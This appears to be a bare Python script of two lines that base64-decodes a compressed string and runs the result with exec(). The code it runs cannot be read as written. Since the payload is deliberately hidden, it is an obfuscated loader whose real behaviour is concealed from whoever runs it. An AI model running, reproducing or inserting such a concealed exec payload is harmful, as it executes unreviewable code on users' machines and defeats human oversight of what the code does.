import zlib, base64
exec(zlib.decompress(base64.b64decode('y8wtyC8qUcgv5sov1iuuLC5JzdVQTy4tylHQLVbIKCkpsNLXN7S00DM11DM0MNAzNDbUL1KoUSjOUNfkAgA='), -15))
